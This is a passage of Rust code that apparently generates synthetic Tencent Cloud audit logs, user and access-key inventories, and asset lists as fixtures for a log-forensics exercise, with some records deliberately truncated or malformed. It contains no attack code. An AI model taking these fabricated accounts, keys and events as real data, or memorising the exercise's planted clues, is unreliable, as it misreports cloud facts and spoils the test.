fn host(event: &Event) -> String {
    let service = event.service;
    match event.caller.kind {
        Kind::RootConsole | Kind::UserConsole => {
            format!("{service}.{}.api.tencentyun.com", event.region)
        }
        Kind::Service => format!("{service}.internal.tencentcloudapi.com"),
        _ if service == "cos" => format!("cos.{}.myqcloud.com", event.region),
        _ => format!("{service}.tencentcloudapi.com"),
    }
}

fn identity(event: &Event) -> Value {
    let caller = event.caller;
    let kind = match caller.kind {
        Kind::RootKey | Kind::RootConsole | Kind::RootOrder => "Root",
        Kind::UserKey | Kind::UserConsole => "CAMUser",
        Kind::Service => "TencentCloudService",
    };
    json!({
        "type": kind,
        "principalId": caller.uin,
        "accountId": ACCOUNT,
        "userName": caller.name,
        "secretId": caller.key_at(event.at),
        "roleSessionName": if caller.kind == Kind::Service { "tke-demo" } else { "" },
        "sessionContext": session(event),
    })
}

/// Returns the session as text, which again holds text; empty for permanent keys.
fn session(event: &Event) -> String {
    let (caller, expires) = (event.caller, local(event.at + 7200, "%Y-%m-%d %H:%M:%S"));
    let owner: u64 = ACCOUNT.parse().expect("the account is a number");
    let extra = match caller.kind {
        Kind::RootKey | Kind::UserKey | Kind::RootOrder => return String::new(),
        Kind::Service => json!({"roleOwnerUin": owner, "roleName": caller.name, "roleType": 2,
            "roleSessionName": "tke-demo"}),
        Kind::RootConsole | Kind::UserConsole => json!({"dictId": 2001,
            "mfaExpireTime": "0000-00-00 00:00:00", "sessionUin": caller.uin}),
    };
    let user_ip = match caller.kind {
        Kind::Service => "",
        _ if caller.ip.starts_with("10.") => "198.51.100.25",
        _ => caller.ip,
    };
    let session = json!({"token": "REDACTED", "ua": "0123456789abcdef0123456789abcdef",
        "userIp": user_ip, "uin": caller.uin, "ownerUin": owner, "appId": APP_ID,
        "expireTime": expires, "mfa": 1, "mfaExpireTime": "0000-00-00 00:00:00",
        "interfaceName": "", "hasPolicyFilter": 0, "policyFilter": "",
        "extraInfo": extra.to_string()});
    session.to_string()
}

// ---------------------------------------------------------------- logs as files

/// Writes what the tracking set shipped: one packed file for a few days, one record a line.
fn write_shipped(folder: &Path, story: &mut Story) -> usize {
    let mut written = 0;
    let mut first = 2;
    for last in [4, 6, 8, 10, 12, 15] {
        let mut lines = String::new();
        let days = time(first, "00:00:00")..time(last + 1, "00:00:00");
        for event in story.events.iter().filter(|event| days.contains(&event.at)) {
            if event.is_shipped() {
                lines.push_str(&shipped_line(event, &mut story.random));
                lines.push('\n');
                written += 1;
            }
        }
        let name = format!("{last:02}/cloudaudit_202603{first:02}-202603{last:02}.gz");
        write_file(&folder.join("2026/03").join(name), &gzip(lines.as_bytes()));
        first = last + 1;
    }
    written
}

/// Returns a record without what is not shipped, its fields in some order.
fn shipped_line(event: &Event, random: &mut Random) -> String {
    const LEFT_OUT: [&str; 4] = ["eventID", "apiVersion", "resources", "eventPlatform"];
    let mut rest: Vec<_> = record(event).into_iter().collect();
    rest.retain(|(name, _)| !LEFT_OUT.contains(&name.as_str()));
    let mut mixed = Map::new();
    while !rest.is_empty() {
        let (name, value) = rest.swap_remove(random.below(rest.len()));
        let value = if value == json!(0) { json!("0") } else { value };
        mixed.insert(name, value);
    }
    let mut line = Value::Object(mixed).to_string();
    if event.state == State::Cut {
        line.truncate(line.len() / 2);
    }
    line
}

/// Writes packed bytes that do not tell when they were packed.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packer = GzBuilder::new()
        .mtime(0)
        .write(Vec::new(), Compression::best());
    packer.write_all(bytes).expect("memory takes every byte");
    packer.finish().expect("memory takes every byte")
}

/// Writes root's records as the command line tool prints them, newest first.
fn write_fetched(path: &Path, events: &[Event]) -> usize {
    let of_root = events.iter().filter(|event| event.caller.kind.is_root());
    let rows: Vec<Value> = of_root.rev().map(fetched_row).collect();
    let reply = json!({"ListOver": true, "NextToken": 0, "Events": rows, "TotalCount": rows.len(),
        "RequestId": "00000000-0000-4000-8000-00000000d003"});
    write_json(path, &reply);
    rows.len()
}

fn fetched_row(event: &Event) -> Value {
    let inner = record(event);
    let mut text = Value::Object(inner.clone()).to_string();
    if event.state == State::Broken {
        let params = &inner["requestParameters"];
        let bare = params.as_str().expect("parameters are text");
        text = text.replacen(&params.to_string(), &format!("\"{bare}\""), 1);
    }
    let auth = event.failure.map_or("0", |failure| failure.auth);
    let auth: u32 = auth
        .parse()
        .expect("codes of the permission check are numbers");
    let account: u64 = ACCOUNT.parse().expect("the account is a number");
    json!({
        "EventId": event.id,
        "Username": event.caller.name,
        "EventTime": event.at.to_string(),
        "CloudAuditEvent": text,
        "ResourceTypeCn": chinese_name(event.service),
        "ErrorCode": auth,
        "EventName": event.action,
        "SecretId": event.caller.key_at(event.at),
        "EventSource": host(event),
        "RequestID": event.id,
        "ResourceRegion": "",
        "AccountID": account,
        "SourceIPAddress": event.ip,
        "EventNameCn": null,
        "Resources": {"ResourceType": event.service, "ResourceName": ""},
        "EventRegion": event.region,
        "Location": "未知",
    })
}

fn chinese_name(service: &str) -> Option<&'static str> {
    match service {
        "cam" => Some("访问管理"),
        "cvm" => Some("云服务器"),
        "cloudaudit" => Some("操作审计"),
        _ => None,
    }
}

/// Writes what the console exports for the users on the first day, newest first. The last
/// three hours of it were shipped as well.
fn write_exported(path: &Path, events: &[Event]) -> usize {
    let mut text = "\u{feff}AccountID,CloudAuditEvent,ErrorCode,EventName,EventTime,RequestID,\
        Resources,SecretId,SourceIPAddress,Username,eventRegion,eventSource\n"
        .to_owned();
    let until = time(2, "18:00:00");
    let of_users = events
        .iter()
        .filter(|event| event.at < until && !event.caller.kind.is_root());
    let rows: Vec<String> = of_users.rev().map(exported_row).collect();
    text.push_str(&rows.concat());
    write_file(path, text.as_bytes());
    rows.len()
}

fn exported_row(event: &Event) -> String {
    let inner = Value::Object(record(event)).to_string();
    let cells = [
        ACCOUNT,
        &inner,
        event.failure.map_or("0", |failure| failure.auth),
        event.action,
        &local(event.at, "%Y-%m-%d %H:%M:%S"),
        &event.id,
        "{}",
        &event.caller.key_at(event.at),
        event.ip,
        event.caller.name,
        event.region,
        &host(event),
    ];
    let quoted = cells.map(|cell| {
        let plain = !cell.contains([',', '"', '\n']);
        if plain {
            cell.to_owned()
        } else {
            format!("\"{}\"", cell.replace('"', "\"\""))
        }
    });
    format!("{}\n", quoted.join(","))
}

fn write_file(path: &Path, bytes: &[u8]) {
    let folder = path.parent().expect("every file is in a folder");
    fs::create_dir_all(folder).expect("the folder can be made");
    fs::write(path, bytes).expect("the file can be written");
}

/// Writes JSON as the command line tool prints it: four spaces, letters as they are.
fn write_json(path: &Path, value: &Value) {
    let mut text = String::new();
    for line in format!("{value:#}").lines() {
        let indent = line.len() - line.trim_start().len();
        text.push_str(&" ".repeat(indent));
        text.push_str(line);
        text.push('\n');
    }
    write_file(path, text.as_bytes());
}

// ---------------------------------------------------------------- what the account owns

fn write_assets(path: &Path) {
    let lines = [
        "ID,名称,公网IP,内网IP,备注",
        "nat-demo0001,nat-build,203.0.113.10,,CI 出口",
        "ins-demo0001,web-1,203.0.113.21,10.20.1.21,应用后端",
        "ins-demo0002,web-2,203.0.113.22,10.20.1.22,移动端接口",
        "ins-demo0003,web-3,203.0.113.23,10.20.1.23,",
        "ins-demo0004,queue-1,,10.20.1.31,消息队列",
        "ins-demo0005,report-1,203.0.113.44,10.20.2.44,报表",
        "ins-demo0006,bastion,203.0.113.50,10.20.0.50,堡垒机",
        "lb-demo0001,shop-front,203.0.113.80,,",
        "lb-demo0002,shop-api,203.0.113.81|2001:db8:20::81,,接口入口",
        "cdb-demo0001,shop-db,,10.20.3.10,主数据库",
        "crs-demo0001,shop-cache,,10.20.3.20,",
        "cls-demo0001,shop-tke,203.0.113.90,10.20.128.0/20,TKE 集群",
    ];
    write_file(path, format!("{}\n", lines.join("\n")).as_bytes());
}

/// A user as the inventory knows it, saved in the morning of the first day.
struct User {
    uin: u64,
    name: &'static str,
    remark: &'static str,
    created: &'static str,
    key: Option<Key>,
    policies: &'static [(u32, &'static str)],
}

struct Key {
    end: &'static str,
    status: &'static str,
    created: &'static str,
    /// The last use, in March or before; `None` for a key that was never used.
    used: Option<&'static str>,
}

impl Key {
    const fn active(end: &'static str, created: &'static str, used: &'static str) -> Option<Self> {
        Some(Self {
            end,
            status: "Active",
            created,
            used: Some(used),
        })
    }
}

static USERS: [User; 10] = [
    User {
        uin: 100_000_000_011,
        name: "ci-deploy",
        remark: "builds and deployments",
        created: "2024-04-02 10:00:00",
        key: Key::active("ciDeploy", "2025-09-01 10:12:00", "2026-03-01 17:58:20"),
        policies: &[(31, "QcloudCVMFullAccess"), (32, "QcloudTKEFullAccess")],
    },
    User {
        uin: 100_000_000_012,
        name: "app-backend",
        remark: "shop backend",
        created: "2024-04-02 10:05:00",
        key: Key::active("appBackend1", "2025-02-11 09:30:00", "2026-03-02 08:11:05"),
        policies: &[(33, "QcloudCamFullAccess"), (34, "QcloudReadOnlyResources")],
    },
    User {
        uin: 100_000_000_013,
        name: "report-export",
        remark: "monthly report",
        created: "2024-05-20 15:00:00",
        key: Key::active("reportExp", "2024-05-20 15:01:10", "2026-01-10 11:05:40"),
        policies: &[(35, "QcloudFinanceReadOnly")],
    },
    User {
        uin: 100_000_000_014,
        name: "media-team",
        remark: "pictures of the shop",
        created: "2025-01-15 11:00:00",
        key: Key::active("mediaTeam", "2025-01-15 11:00:30", "2026-02-27 16:40:00"),
        policies: &[],
    },
    User {
        uin: 100_000_000_015,
        name: "fleet-sync",
        remark: "multi-cloud manager",
        created: "2025-06-03 09:00:00",
        key: Key::active("fleetSync", "2025-06-03 09:00:20", "2026-02-28 09:15:00"),
        policies: &[(36, "QcloudCVMReadOnlyAccess")],
    },
    User {
        uin: 100_000_000_016,
        name: "mobile-api",
        remark: "",
        created: "2026-02-25 10:00:00",
        key: None,
        policies: &[],
    },
    User {
        uin: 100_000_000_017,
        name: "old-contractor",
        remark: "left in 2025",
        created: "2024-07-01 09:00:00",
        key: Some(Key {
            end: "contractor",
            status: "Inactive",
            created: "2024-07-01 09:10:00",
            used: None,
        }),
        policies: &[],
    },
    User {
        uin: 100_000_000_021,
        name: "ops-lead",
        remark: "",
        created: "2024-04-01 09:00:00",
        key: None,
        policies: &[(1, "AdministratorAccess")],
    },
    User {
        uin: 100_000_000_022,
        name: "dev-web",
        remark: "",
        created: "2024-08-12 09:00:00",
        key: None,
        policies: &[],
    },
    User {
        uin: 100_000_000_023,
        name: "finance-view",
        remark: "",
        created: "2024-09-02 09:00:00",
        key: None,
        policies: &[],
    },
];

static ROOT_KEY: Option<Key> =
    Key::active("rootOwner", "2024-03-28 12:00:00", "2026-02-24 10:20:00");

/// Writes replies as the command line tool prints them.
fn write_inventory(folder: &Path) {
    let write = |name: &str, reply: Value| write_json(&folder.join(format!("{name}.json")), &reply);
    write(
        "ListUsers",
        json!({"Data": USERS.iter().map(user_entry).collect::<Vec<_>>(),
        "RequestId": saved_id(1)}),
    );
    write(
        "GetUserAppId",
        json!({"Uin": ACCOUNT, "OwnerUin": ACCOUNT, "AppId": APP_ID,
        "RequestId": saved_id(2)}),
    );
    write("DescribeVpcs", vpcs());
    write("DescribeRoleList", roles());

    let root: u64 = ACCOUNT.parse().expect("the account is a number");
    let of_users = USERS.iter().map(|user| (user.uin, user.key.as_ref()));
    let keys = std::iter::once((root, ROOT_KEY.as_ref())).chain(of_users);
    let keys: Vec<(u64, &Key)> = keys.filter_map(|(uin, key)| Some((uin, key?))).collect();
    for (uin, key) in &keys {
        let entry = json!({"AccessKeyId": permanent_key(key.end), "Status": key.status,
            "CreateTime": key.created, "Description": ""});
        let reply = json!({"AccessKeys": [entry], "RequestId": saved_id(*uin)});
        write(&format!("ListAccessKeys-{uin}"), reply);
    }
    let used: Vec<Value> = keys.iter().filter_map(|(_, key)| last_use(key)).collect();
    write(
        "GetSecurityLastUsed",
        json!({"SecretIdLastUsedRows": used, "RequestId": saved_id(3)}),
    );
    for user in USERS.iter().filter(|user| !user.policies.is_empty()) {
        write(
            &format!("ListAttachedUserPolicies-{}", user.uin),
            attached(user),
        );
    }
}

fn saved_id(number: u64) -> String {
    format!("00000000-0000-4000-9000-{number:012}")
}

fn user_entry(user: &User) -> Value {
    json!({"Uin": user.uin, "Name": user.name, "Uid": user.uin % 1000 + 9_000_000,
        "Remark": user.remark, "ConsoleLogin": u8::from(user.key.is_none()), "PhoneNum": "",
        "CountryCode": "86", "Email": "", "CreateTime": user.created, "NickName": user.name})
}

/// The date is a day late, as it is in real replies; the time beside it is right.
fn last_use(key: &Key) -> Option<Value> {
    let parsed = chrono::NaiveDateTime::parse_from_str(key.used?, "%Y-%m-%d %H:%M:%S");
    let at = parsed
        .expect("written as date and time")
        .and_utc()
        .timestamp()
        - OFFSET_SECONDS;
    Some(json!({"SecretId": permanent_key(key.end),
        "LastUsedDate": local(at + 86_400, "%Y-%m-%d"), "LastSecretUsedDate": at * 1000}))
}

fn attached(user: &User) -> Value {
    let entry = |(id, name): &(u32, &str)| {
        json!({"PolicyId": id, "PolicyName": name, "AddTime": user.created, "CreateMode": 2,
            "Remark": "", "OperateOwnerUin": ACCOUNT, "OperateUin": ACCOUNT, "OperateUinType": 0,
            "PolicyType": "QCS", "Deactived": 0, "DeactivedDetail": []})
    };
    let list: Vec<Value> = user.policies.iter().map(entry).collect();
    json!({"List": list, "TotalNum": list.len(), "RequestId": saved_id(user.uin)})
}

fn vpcs() -> Value {
    json!({"VpcSet": [{"VpcId": "vpc-demo0001", "VpcName": "shop", "CidrBlock": "10.20.0.0/16",
        "Ipv6CidrBlock": "", "IsDefault": false, "CreatedTime": "2024-03-28 12:30:00",
        "TagSet": [], "AssistantCidrSet": []}], "TotalCount": 1, "RequestId": saved_id(4)})
}

fn roles() -> Value {
    let trust = json!({"version": "2.0", "statement": [{"action": "sts:AssumeRole",
        "effect": "allow", "principal": {"service": "ccs.qcloud.com"}}]});
    json!({"List": [{"RoleId": TKE.uin, "RoleName": TKE.name, "PolicyDocument": trust.to_string(),
        "Description": "used by the container service", "AddTime": "2024-04-03 11:00:00",
        "UpdateTime": "2024-04-03 11:00:00", "ConsoleLogin": 0, "RoleType": "system",
        "SessionDuration": 43200, "DeletionTaskId": null, "Tags": []}],
        "TotalNum": 1, "RequestId": saved_id(5)})
}
